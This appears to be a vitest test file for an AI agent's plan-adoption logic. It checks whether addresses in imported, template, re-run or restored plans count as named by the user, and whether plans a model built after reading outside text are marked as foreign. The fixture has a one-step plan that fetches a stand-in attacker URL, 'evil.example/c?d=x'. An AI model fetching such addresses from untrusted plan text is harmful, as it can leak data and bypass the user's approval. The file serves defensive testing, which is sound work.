import { expect, test } from 'vitest';
import { adoptPlan, type AdoptedPlanOrigin } from '../../../src/engine/adopt-plan.ts';
import { isPlanFromOutside } from '../../../src/engine/plan-from-outside.ts';
import { newStep } from '../../../src/plan/plan-edits.ts';
import { emptyPlan } from '../../../src/plan/plan.ts';
import type { Run } from '../../../src/task/run.ts';
import { calls, World } from './world.ts';

const url = 'https://evil.example/c?d=x';

/** How the plan of the earlier task was made, and whether text from outside had been read by then. */
type Origin = { from: 'model' | 'template'; tainted: boolean };

const storedOrigin = (before: Partial<Run> | null, { from, tainted }: Origin) => ({
  sessions: {
    wholeJournal: async () => [{ seq: 3, task_id: before?.id, body: { type: 'plan_generated', steps: 1, from } }],
    run: async (_: string, seq: number) => (seq === 3 ? { ...before, tainted } : null),
  },
});

/** A plan of one step that opens an address, from somewhere, in a session that has read text from outside. */
async function adopted(
  from: AdoptedPlanOrigin,
  words: readonly string[] = [],
  before: Partial<Run> | null = null,
  origin: Origin = { from: 'template', tainted: false },
  message: { foreign?: true } | null = null,
) {
  const world = new World(() => calls(['finish_step', { response: 'Done.' }]), { thoroughness: 'economy' });
  const said = { type: 'message', kind: 'goal', text: `See ${url}`, ...message } as const;
  const line = { session_id: 's1', task_id: null, step_id: null, at: world.clock.now(), body: said };
  if (message) await world.journal.transact((transaction) => transaction.append(line));
  const step = { ...newStep('step_1', `Read ${url}`), tool: 'fetch', parameters: { url } };
  const at = world.clock.now();
  const plan = { ...emptyPlan('p1', `See what ${url} says`, at), status: 'paused' as const, steps: [step] };
  const session = {
    id: 's1',
    run: before as Run | null,
    tell: async (event: { type: 'plan.import'; run: Run; from: AdoptedPlanOrigin }) => {
      void world.runner.send({ ...event, run: { ...event.run, tainted: true } });
      return true;
    },
  };
  const stores = { settings: { get: async () => world.settings }, ...storedOrigin(before, origin) };
  await adoptPlan(plan, from, session, { clock: world.clock, stores } as never, words);
  await world.untilPhase('paused');
  void world.runner.send({ type: 'plan.continue' });
  const run = await world.untilPhase('waiting');
  return { named: run.approvals[0]?.access.foreign?.named, words: run.own_words, run };
}

test('R13.3 an address in an imported plan is not one that the person named; what they typed at its import is theirs', async () => {
  expect(await adopted('import')).toMatchObject({ named: false, words: [] });
  expect(await adopted('import', [`Read ${url}`])).toMatchObject({ named: true });
});

test('one in a template or in a plan of their own that runs again is, but not in an imported one that runs again', async () => {
  expect((await adopted('template')).named).toBe(true);
  const { run } = await adopted('template');
  expect((await adopted('again', [], { ...run, phase: 'completed' })).named).toBe(true);
  const imported = await adopted('import');
  const again = { ...imported.run, phase: 'completed' } as const;
  expect(await adopted('again', [], again)).toMatchObject({ named: false, words: [] });
});

test('R13.3 a plan that a model made after it had read text from outside is not theirs when it runs again', async () => {
  const { run } = await adopted('template');
  const before = { ...run, phase: 'completed' } as const;
  const again = (origin: Origin, more: Partial<Run> = {}) => adopted('again', [], { ...before, ...more }, origin);
  expect((await again({ from: 'model', tainted: false })).named).toBe(true);
  const goal = [`See what ${url} says`];
  expect((await again({ from: 'model', tainted: true })).words).toEqual(goal);
  const first_plan = [{ id: 'step_1', description: 'Look around' }];
  expect((await again({ from: 'model', tainted: false }, { first_plan })).words).toEqual(goal);
});

test('R13.3 a plan in an answer is not theirs', async () => {
  const world = new World(() => calls(), {});
  const told: Run[] = [];
  const session = { id: 's1', run: null, tell: async ({ run }: { run: Run }) => told.push(run) > 0 };
  const stores = { settings: { get: async () => world.settings } };
  await adoptPlan(emptyPlan('p1', url, world.clock.now()), 'answer', session, { clock: world.clock, stores } as never);
  expect(told[0]?.own_words).toEqual([]);
});

test('R13.3 what is saved of a plan from outside is text from outside, not what is saved of a plan of their own', async () => {
  const { run } = await adopted('template');
  const foreign = (more: Partial<Run>, origin: Origin) =>
    isPlanFromOutside({ ...run, ...more }, storedOrigin(run, origin) as never);
  expect(await foreign({ tainted: true }, { from: 'model', tainted: false })).toBe(false);
  expect(await foreign({ tainted: true }, { from: 'model', tainted: true })).toBe(true);
  expect(await foreign({ tainted: true }, { from: 'template', tainted: true })).toBe(false);
  expect(await foreign({ own_words: [] }, { from: 'template', tainted: false })).toBe(true);
  expect(await foreign({ tainted: false }, { from: 'model', tainted: true })).toBe(false);
});

test('R13.4 a message that came with a backup of somebody else names no address for the person', async () => {
  const restored = (message: { foreign?: true }) => adopted('import', [], null, undefined, message);
  expect((await restored({})).named).toBe(true);
  expect((await restored({ foreign: true })).named).toBe(false);
});
